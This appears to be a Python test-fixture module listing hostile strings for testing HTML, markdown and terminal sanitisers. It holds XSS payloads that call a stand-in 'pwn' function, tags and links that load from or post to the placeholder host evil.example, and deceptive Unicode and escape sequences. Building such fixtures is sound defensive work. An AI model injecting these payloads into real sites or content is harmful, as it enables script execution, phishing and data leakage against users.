"""Texts that try to be more than text: markup, handlers, addresses, styles, control characters.

After the collections that everybody tests with (OWASP's filter evasion sheet, PortSwigger's list, DOMPurify's
own fixtures), each of which calls `pwn` or asks for something from `evil.example` if it is taken at its word.
"""

from __future__ import annotations

#: Markup that runs, or loads, where it is taken for HTML.
MARKUP = (
    "<script>pwn(1)</script>",
    "<ScRiPt>pwn(1)</sCrIpT>",
    "<scr<script>ipt>pwn(1)</scr</script>ipt>",
    '<img src=x onerror="pwn(1)">',
    "<img src='https://evil.example/i.png'>",
    "<img/src=`x`onerror=pwn(1)>",
    '"><img src=x onerror=pwn(1)>',
    "'><svg/onload=pwn(1)>",
    "<svg><animate onbegin=pwn(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=pwn(1)></style></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn(1)&gt;'>",
    "<math><mi//xlink:href='javascript:pwn(1)'>x</math>",
    "<iframe srcdoc='<script>parent.pwn(1)</script>'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<object data='javascript:pwn(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; .dispatch-nb { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button>Log in</button></form>",
    "<input autofocus onfocus=pwn(1)>",
    "<details open ontoggle=pwn(1)>x</details>",
    "<video><source onerror=pwn(1)></video>",
    "<audio src='https://evil.example/a.mp3' autoplay>",
    "<video poster='https://evil.example/p.png'>",
    "<body onload=pwn(1)>",
    "<marquee onstart=pwn(1)>x</marquee>",
    "<div style='background:url(https://evil.example/b.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
    "<p id=jupyter-config-data>{}</p>",
    "<a href='javascript:pwn(1)'>click</a>",
    "<a href='https://evil.example/' ping='https://evil.example/ping'>click</a>",
    "<template><script>pwn(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn(1)>'>",
    "</textarea><script>pwn(1)</script>",
    "</title><script>pwn(1)</script>",
    "<!--<img src=--><img src=x onerror=pwn(1)>",
    "<x onpointerenter=pwn(1) onmouseover=pwn(1) onfocusin=pwn(1) tabindex=1>x</x>",
    "<img srcset='https://evil.example/s.png 2x'>",
    "&lt;img src=x onerror=pwn(1)&gt;",
    "&#60;img src=x onerror=pwn(1)&#62;",
    "${pwn(1)} {{pwn(1)}} #{pwn(1)} <%= pwn(1) %>",
)
#: Markdown that leads out of the page, or runs.
MARKDOWN = (
    "[click](javascript:pwn(1))",
    "[click](JaVaScRiPt:pwn(1))",
    "[click](java&#x09;script:pwn(1))",
    "[click](&#106;avascript:pwn(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKDEpPC9zY3JpcHQ+)",
    "[click](vbscript:pwn(1))",
    "<javascript:pwn(1)>",
    "![i](https://evil.example/i.png)",
    "![i](javascript:pwn(1))",
    "![i][r]\n\n[r]: https://evil.example/r.png",
    '[a](https://evil.example/ "onmouseover=pwn(1)")',
    "```<img src=x onerror=pwn(1)>\n</code></pre><script>pwn(1)</script>\n```",
    "| <img src=x onerror=pwn(1)> | b |\n|---|---|\n| 1 | <svg onload=pwn(1)> |",
    "- [x] <img src=x onerror=pwn(1)>",
    "https://evil.example/<script>pwn(1)</script>",
)
#: Characters that deceive the eye, or a terminal.
CHARACTERS = (
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\u202egnp.exe\u202c and \u2066isolate\u2069",
    "zero\u200bwidth\u2060joiner\ufeff",
    "bell\x07 back\x08space nul-like\x01 del\x7f",
    "\U000e0041\U000e0042 tags",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA",
    "\u2028line\u2029paragraph",
)
#: A word that no line can break.
LONG = "W" * 1_000_000
ALL = (*MARKUP, *MARKDOWN, *CHARACTERS)
